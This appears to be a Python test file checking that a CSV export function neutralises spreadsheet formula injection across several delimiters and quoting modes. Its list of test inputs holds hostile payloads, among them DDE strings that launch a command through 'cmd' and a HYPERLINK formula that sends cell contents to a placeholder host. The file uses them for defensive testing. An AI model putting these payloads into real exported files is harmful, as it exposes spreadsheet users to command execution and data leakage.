"""Does a text of a CSV file ever run in a spreadsheet, and does it come back word for word? (S8)"""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from polyphonie.core.spreadsheet import exact, inert
from polyphonie.opendata import verify

SIGNS = "=+-@＝＋－＠"
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "'=1+1", "''=1+1",
    "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://exemple.fr?"&A1,"oui")', "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0", "@import", "une ligne\n=1+1", "une ligne\r\n=1+1", "deux\n\n =1+1", "a;=1+1;b", "a,=1+1,b",
    "a\t=1+1\tb", 'dit "=1+1"', '";=1+1;"', '","=1+1","', '"\n=1+1\n"', "a;'=1+1", "a; =1+1", "a\u2028=1+1", "- un\n- deux", "-",
    "=", "'", "''", "-3,-4", "-3-4", "--1",
]  # fmt: skip
SPLITS = [
    {"delimiter": ","},
    {"delimiter": ";"},
    {"delimiter": "\t"},
    {"delimiter": ",", "quoting": csv.QUOTE_NONE},
    {"delimiter": ";", "quoting": csv.QUOTE_NONE},
    {"delimiter": "\t", "quoting": csv.QUOTE_NONE},
]
"""How spreadsheets split a file: as it is, set for another separator, and blind to quotation marks."""


def cells(file: str, split: dict) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(file, newline=""), **split) for cell in row]


def runs(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula: once blanks and quotation marks before it are dropped."""
    bare = cell.lstrip(' \t\r\n"\u00a0\u200b')
    return bare[:1] in tuple(SIGNS) and not bare.lstrip("-").isdigit()


def test_no_cell_runs_however_a_spreadsheet_splits_the_file():
    tried = 0
    for text in HOSTILE:
        file = io.StringIO()
        csv.writer(file, lineterminator="\n").writerow(["1", inert(text), "fin"])
        for split in SPLITS:
            found = [cell for cell in cells(file.getvalue(), split) if runs(cell)]
            assert not found, (text, split, found)
            tried += 1
    print(f"S8: {tried} hostile cells × splits, 0 formulas")
    assert tried >= 240


def test_without_the_apostrophes_they_would_run():
    """The measure itself sees formulas."""
    assert all(runs(text) for text in HOSTILE[:8])
    assert [text for text in HOSTILE if any(runs(cell) for split in SPLITS for cell in cells(text, split))] != []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_come_back_one_by_one(text):
    assert exact(inert(text)) == text
    assert verify.exact(inert(text)) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\n\r\t;,\" a1＝\u00a0\u200b\x85é"), max_size=30))
def test_every_text_comes_back_word_for_word(text):
    assert exact(inert(text)) == text
    assert verify.exact(inert(text)) == text


@pytest.mark.parametrize("number", ["0", "-1", "746", "-3 12 4", "1000000000"])
def test_numbers_stay_numbers(number):
    assert inert(number) == number


@pytest.mark.parametrize(
    "text", ["Planter des tilleuls", "L’été, il fait chaud ; on étouffe.", "https://exemple.fr/?a=1", "a-b", ""]
)
def test_ordinary_words_do_not_change(text):
    assert inert(text) == text == exact(text)
